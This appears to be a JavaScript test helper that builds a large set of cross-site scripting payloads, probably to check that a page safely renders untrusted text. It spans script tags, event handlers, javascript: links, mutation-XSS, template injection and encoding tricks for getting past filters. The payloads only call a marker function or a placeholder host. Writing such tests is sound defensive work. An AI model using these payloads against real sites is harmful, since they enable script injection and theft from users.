// Texts that a customer, a model or a CRM could send to make a page do something, made from families: every way into
// script that the page's text could be, with what each of them would call.

/** What a payload calls when it runs. */
const call = (n) => `window.__ran(${n})`;
const OUTSIDE = "http://outside.invalid";

const HANDLERS = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "oncontentvisibilityautostatechange"];
const HOSTS = [
  (handler, js) => `<img src=x ${handler}="${js}">`,
  (handler, js) => `<svg ${handler}="${js}"></svg>`,
  (handler, js) => `<body ${handler}=${js}>`,
  (handler, js) => `<details open ${handler}="${js}">x</details>`,
  (handler, js) => `<input autofocus ${handler}='${js}'>`,
  (handler, js) => `<video src=x ${handler}=\`${js}\`></video>`,
  (handler, js) => `<x style="content-visibility:auto;animation:a 1s" tabindex=0 ${handler}="${js}">x</x>`,
  (handler, js) => `"><img src=x ${handler}="${js}">`,
  (handler, js) => `'/><svg/${handler}='${js}'>`,
];
const SCRIPTS = [
  (js) => `<script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<ScRiPt>${js}</sCrIpT>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`,
  (js) => `<script src="${OUTSIDE}/x.js?${js}"></script>`,
  (js) => `<script type=module>${js}</script>`,
  (js) => `<<script>${js}//<</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`,
  (js) => `<math><mtext></script><script>${js}</script>`,
  (js) => `<noscript><p title="</noscript><script>${js}</script>">`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<!--><script>${js}</script>-->`,
  (js) => `<![CDATA[<script>${js}</script>]]>`,
  (js) => `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`,
  (js) => `<textarea></textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
];
const ADDRESSES = [
  (js) => `javascript:${js}`, (js) => `JaVaScRiPt:${js}`, (js) => `java\tscript:${js}`, (js) => `java\nscript:${js}`,
  (js) => `\u0001javascript:${js}`, (js) => `javascript&colon;${js}`, (js) => `&#106;avascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`, (js) => `vbscript:${js}`, (js) => `${OUTSIDE}/?${js}`,
];
const CARRIERS = [
  (url) => `<a href="${url}">open</a>`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<form action="${url}"><button>go</button></form>`,
  (url) => `<object data="${url}"></object>`, (url) => `<embed src="${url}">`, (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<base href="${url}">`, (url) => `<link rel=stylesheet href="${url}">`, (url) => `[open](${url})`, (url) => `![image](${url})`, (url) => url,
  (url) => `<svg><a xlink:href="${url}"><text>open</text></a></svg>`, (url) => `<math href="${url}">open</math>`,
];
const MUTATIONS = [
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<table><td background="javascript:${js}">`, (js) => `<listing>&lt;img src=1 onerror=${js}&gt;</listing>`,
  (js) => `<xmp><p title="</xmp><img src=x onerror=${js}>">`, (js) => `<select><style></select><img src=x onerror=${js}>`,
  (js) => `<plaintext><img src=x onerror=${js}>`,
];
const STYLES = [
  (n) => `<style>@import '${OUTSIDE}/${n}.css';</style>`, (n) => `<div style="background:url(${OUTSIDE}/${n}.png)">x</div>`,
  (n) => `<style>*{background:url(${OUTSIDE}/${n})}</style>`, (n) => `<img srcset="${OUTSIDE}/${n} 1x">`,
  (n) => `<div style="position:fixed;inset:0;z-index:9999;background:red">${n}</div>`, (n) => `<link rel=prefetch href=${OUTSIDE}/${n}>`,
  (n) => `<img src="${OUTSIDE}/${n}.gif">`, (n) => `<audio src=${OUTSIDE}/${n} autoplay>`, (n) => `<input type=image src=${OUTSIDE}/${n}>`,
];
const TEMPLATES = [
  (js) => `{{constructor.constructor('${js}')()}}`, (js) => `\${${js}}`, (js) => `<%= ${js} %>`, (js) => `#{${js}}`, (js) => `{%raw%}${js}`,
  (js) => `{{=it.${js}}}`, (js) => `[[${js}]]`, (js) => `__proto__[innerHTML]=<img src=x onerror=${js}>`, (js) => `{"__html":"<img src=x onerror=${js}>"}`,
  (js) => `{"$$typeof":"react.element","type":"script","props":{"children":"${js}"}}`,
];
const ODD = [
  (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`, (js) => `<img\u0000 src=x onerror=${js}>`,
  (js) => `\u202e<img src=x onerror=${js}>\u202c`, (js) => `\u2066${js}\u2069<script>${js}</script>`, (js) => `<\u0130mg src=x onerror=${js}>`,
  (js) => `\ufeff<script>${js}</script>`, (js) => `<img src=x onerror=${js}${"\u0301".repeat(60)}>`, (js) => `＜script＞${js}＜/script＞`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`, (js) => `&lt;script&gt;${js}&lt;/script&gt;`, (js) => `&#60;script&#62;${js}&#60;/script&#62;`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`, (js) => `${"A".repeat(20_000)}<img src=x onerror=${js}>`,
  (js) => `${"<b>".repeat(2_000)}<img src=x onerror=${js}>`, (js) => `<img src=x onerror=${js}//${"\u200b".repeat(500)}>`,
];

/** `count` different payloads; the n-th would call `__ran(n)`, go outside or change the page. */
export function payloads(count) {
  const makers = [];
  for (const host of HOSTS) for (const handler of HANDLERS) makers.push((n) => host(handler, call(n)));
  for (const script of SCRIPTS) makers.push((n) => script(call(n)));
  for (const carrier of CARRIERS) for (const address of ADDRESSES) makers.push((n) => carrier(address(call(n))));
  for (const one of [...MUTATIONS, ...TEMPLATES, ...ODD]) makers.push((n) => one(call(n)));
  for (const style of STYLES) makers.push(style);
  // Encoded in part, as filters are got round, until there are enough.
  const bend = [(text) => text.replaceAll("<", "<\u200b").replace("<\u200b", "<"), (text) => `x" ${text} y='`, (text) => `-->${text}<!--`, (text) => `]]>${text}`, (text) => text.toUpperCase().replaceAll("WINDOW.__RAN", "window.__ran")];
  const all = [];
  for (let n = 0; all.length < count; n += 1) {
    const bent = Math.floor(n / makers.length);
    const text = makers[n % makers.length](n);
    all.push(bent === 0 ? text : bend[(bent + n) % bend.length](text));
  }
  if (new Set(all).size !== count) throw new Error("two payloads are the same");
  return all;
}
